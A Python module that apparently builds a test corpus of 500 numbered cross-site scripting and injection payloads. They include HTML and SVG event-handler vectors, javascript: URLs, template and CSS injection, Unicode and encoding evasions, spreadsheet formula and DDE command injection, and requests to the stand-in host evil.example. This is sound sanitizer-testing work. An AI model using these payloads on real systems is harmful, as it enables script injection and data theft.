"""Five hundred texts of our own that want to be a script, a link, a formula or a request.

Each calls `ran(NUMBER)` where it is taken for more than text, and ends in a mark by which it can
be found on a page: `p017.` ends the one with the number 17.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle, islice, product

ELSEWHERE = "evil.example"
WANTED = 500

# What stands in the place of `!` runs.
ELEMENTS = (
    "<img src=x onerror=!>",
    "<svg onload=!>",
    "<body onload=!>",
    "<input autofocus onfocus=!>",
    "<select autofocus onfocus=!>",
    "<textarea autofocus onfocus=!></textarea>",
    "<details open ontoggle=!>",
    "<video src=x onerror=!></video>",
    "<audio src=x onerror=!></audio>",
    "<video><source onerror=!></video>",
    "<iframe onload=!></iframe>",
    "<object data=x onerror=!></object>",
    "<embed src=x onload=!>",
    "<style onload=!></style>",
    "<link rel=stylesheet href=x onerror=!>",
    "<script src=x onerror=!></script>",
    "<img src=data:, onerror=!>",
    "<input type=image src=x onerror=!>",
    "<a href=# id=x tabindex=1 autofocus onfocus=!>",
    "<b contenteditable autofocus onfocus=!>",
    "<marquee onstart=!>",
    "<dialog open onfocus=! autofocus tabindex=1>",
)
QUOTES = ("{}", '"{}"', "'{}'", "&#x20;{}", "{};", "({})")
BEFORE = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\\'>", "]]>")
ATTRIBUTES = (
    *("autofocus onfocus=!", "autofocus onfocusin=!", "onmouseover=!", "onpointerenter=!"),
    *("style=animation-name:x onanimationstart=!", "accesskey=x onclick=!", "onscroll=!"),
    *("tabindex=1 autofocus onfocus=! x=", "oncontentvisibilityautostatechange=!", "onload=!"),
)
OPEN_QUOTES = ('"', "'", " ", "`")
SCRIPTS = (
    "<script>!</script>",
    "<ScRiPt>!</sCrIpT>",
    "<script >!</script >",
    "<script/x>!</script>",
    "<script\t>!</script\n>",
    "<<script>!//<</script>",
    "<scr<script>ipt>!</script>",
    "<script type=module>!</script>",
    "<script src=data:text/javascript,!></script>",
    f"<script src=//{ELSEWHERE}/!></script>",
    "<svg><script>!</script></svg>",
    "<svg><script>&#x72;an(1)</script>!",
    "<script>/*&*/!</script>",
    "<script>`${!}`</script>",
    "<script>setTimeout('!')</script>",
    "<script nonce=''>!</script>",
    "<noscript><p title='</noscript><script>!</script>'>",
    "<math><script>!</script></math>",
)
ADDRESSES = (
    "javascript:!",
    "JaVaScRiPt:!",
    "java\tscript:!",
    "&#106;avascript:!",
    "javascript&colon;!",
    "\x01javascript:!",
    " javascript:!",
    "javascript://%0a!",
    "data:text/html,<script>!</script>",
    "vbscript:!",
    "view-source:javascript:!",
)
CARRIERS = (
    "{}",
    "<a href='{}'>x</a>",
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]: {}",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><input type=submit autofocus>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
)
STRINGS = (
    *("';!//", '";!//', "\\';!//", '\\";!//', "'-!-'", '"-!-"', "`${!}`", "${!}", "*/!/*"),
    *("\u2028!//", "\u2029!//", "</script><script>!</script>", "\\u003cscript>!", "'};!;{'"),
    *("</SCRIPT ><svg onload=!>", "<!--<script>!", "]};!//", "\\x3cimg src=x onerror=!\\x3e"),
)
STYLES = (
    "</style><img src=x onerror=!>",
    "expression(!)",
    "x:url(javascript:!)",
    f"}}*{{background:url(//{ELSEWHERE}/!)}}",
    f"@import '//{ELSEWHERE}/!';",
    f"<style>*{{background:url(//{ELSEWHERE}/!)}}</style>",
    f"<p style=background:url(//{ELSEWHERE}/!)>",
    "<p style=behavior:url(#!)>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=!>",
)
DRAWINGS = (
    "<svg><animate onbegin=! attributeName=x dur=1s>",
    "<svg><set onbegin=! attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:!></a>",
    "<svg><foreignObject><img src=x onerror=!></foreignObject>",
    "<svg><style><img src=x onerror=!></style>",
    "<svg><title><img src=x onerror=!></title>",
    "<svg><desc><svg onload=!>",
    "<svg><image href=x onerror=!>",
    "<svg><use href=data:image/svg+xml,<svg/onload=!>>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=!>",
    "<math href=javascript:!>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:!>x",
    "<svg><p><style><g title='</style><img src=x onerror=!>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=!>",
    "<table><td background=javascript:!>",
)
TEMPLATES = (
    *("{{ ! }}", "{% debug %}!", "{% include '!' %}", "{{constructor.constructor('!')()}}"),
    *("{{ !|safe }}", "{%endautoescape%}<svg onload=!>", "<%= ! %>", "#{!}", "[[!]]", "@(!)"),
    *("<b hx-on:load=!>", "<b hx-on::load='!'>", "<b hx-trigger=load[!] hx-get=/>"),
    f"<b hx-get=//{ELSEWHERE}/! hx-trigger=load>",
    f"<b data-hx-post=//{ELSEWHERE}/! data-hx-trigger=load>",
    "<b hx-vals='js:{x:!}' hx-get=/ hx-trigger=load>",
    *("<b x-data x-init=!>", "<b ng-app ng-init=!>", "<b v-on:load=!>", "<b @load=!>"),
)
FORMULAS = (
    f'=HYPERLINK("//{ELSEWHERE}/!")',
    "=cmd|'/C !'!A0",
    "+!",
    "-!",
    "@SUM(!)",
    "\t=!",
    "\r=!",
    "%0A=!",
    f'=IMPORTXML("//{ELSEWHERE}/!";"//a")',
    "|!",
)
DISGUISES = (
    "\u202e<script>!</script>",
    "<\u200bscript>!</script>",
    "<script\u200b>!</script>",
    "\ufeff<script>!</script>",
    "＜script＞!＜/script＞",
    "‹img src=x onerror=!›",
    "<\u0338script>!</script>",
    "\u2066<img src=x onerror=!>\u2069",
    "<img src=x onerror\u200d=!>",
    "<img\u00a0src=x onerror=!>",
    "<img\x0csrc=x\x0conerror=!>",
    "<img/src=x/onerror=!>",
    "<ſcript>!</ſcript>",
    "<\U000e0073cript>!</script>",
    "\u2029<svg onload=!>",
    "\x85<svg onload=!>",
    "ab\u0308<svg onload=!>",
    "\U0001f469\u200d\U0001f52c<svg onload=!>",
)
ENCODED = (
    "&lt;script&gt;!&lt;/script&gt;",
    "&amp;lt;svg onload=!&amp;gt;",
    "%3Csvg%20onload=!%3E",
    "%253Csvg%2520onload=!%253E",
    "&#60;svg onload=!&#62;",
    "&#x3c;svg onload=!&#x3e;",
    "&#60svg onload=!&#62",
    "+ADw-svg onload=!+AD4-",
    "\\x3csvg onload=!\\x3e",
    "\\u003csvg onload=!\\u003e",
    "\\74svg onload=!\\76",
    "&lt;![CDATA[<svg onload=!>]]&gt;",
    "<![CDATA[<svg onload=!>]]>",
    "<?xml version='1.0'?><svg onload=!>",
    "<!DOCTYPE x [<!ENTITY y '!'>]>&y;",
    "&NewLine;<svg onload=!>",
)
REQUESTS = (
    f"<img src=//{ELSEWHERE}/!>",
    f"<img srcset=//{ELSEWHERE}/!>",
    f"<img src='//{ELSEWHERE}/?!",
    f"<link rel=stylesheet href=//{ELSEWHERE}/!>",
    f"<link rel=prefetch href=//{ELSEWHERE}/!>",
    f"<link rel=preconnect href=//{ELSEWHERE}/!>",
    f"<link rel=dns-prefetch href=//{ELSEWHERE}/!>",
    f"<meta http-equiv=refresh content=0;url=//{ELSEWHERE}/!>",
    f"<base href=//{ELSEWHERE}/!>",
    f"<video src=//{ELSEWHERE}/! autoplay></video>",
    f"<iframe src=//{ELSEWHERE}/!></iframe>",
    "<iframe srcdoc='<script>parent.!</script>'></iframe>",
    f"<object data=//{ELSEWHERE}/!></object>",
    f"![x](//{ELSEWHERE}/!)",
    f"![x](https://{ELSEWHERE}/!)",
    f"<track src=//{ELSEWHERE}/!>",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """One of them: its number, from 1 on, and all of its text."""

    number: int
    text: str

    @property
    def mark(self) -> str:
        return f"p{self.number:03d}."


def payloads() -> list[Payload]:
    """All of them, in an order that mixes the kinds; the same on every day."""
    templates = list(islice(dict.fromkeys(_mixed()), WANTED))
    return [_numbered(number, template) for number, template in enumerate(templates, 1)]


def _numbered(number: int, template: str) -> Payload:
    call = (f"ran({number})", f"alert({number})", f"top.ran({number})")[number % 3]
    return Payload(number, template.replace("!", call, 1) + f"//p{number:03d}.")


def _mixed() -> Iterator[str]:
    """The kinds in turn, until the longest is at its end."""
    kinds = [*map(iter, (_others(), _addresses(), _attributes(), _scripts(), _elements()))]
    for kind in cycle(list(kinds)):
        if kind in kinds and (text := next(kind, None)) is not None:
            yield text
        elif kind in kinds:
            kinds.remove(kind)
        elif not kinds:
            return


def _others() -> Iterator[str]:
    kinds = (STRINGS, STYLES, DRAWINGS, TEMPLATES, FORMULAS, DISGUISES, ENCODED, REQUESTS)
    for kind in kinds:
        yield from kind


def _elements() -> Iterator[str]:
    """Each with each way to quote, behind what would end the place in which it stands."""
    before = cycle(BEFORE)
    for _, quote, element in product(range(3), QUOTES, ELEMENTS):
        yield next(before) + element.replace("!", quote.format("!"))


def _attributes() -> Iterator[str]:
    for quote, attribute in product(OPEN_QUOTES, ATTRIBUTES):
        yield f"x{quote} {attribute} y={quote.strip()}"


def _scripts() -> Iterator[str]:
    for before, script in zip(cycle(BEFORE), (*SCRIPTS, *SCRIPTS), strict=False):
        yield before + script


def _addresses() -> Iterator[str]:
    for carrier, address in product(CARRIERS, ADDRESSES):
        yield carrier.format(address)
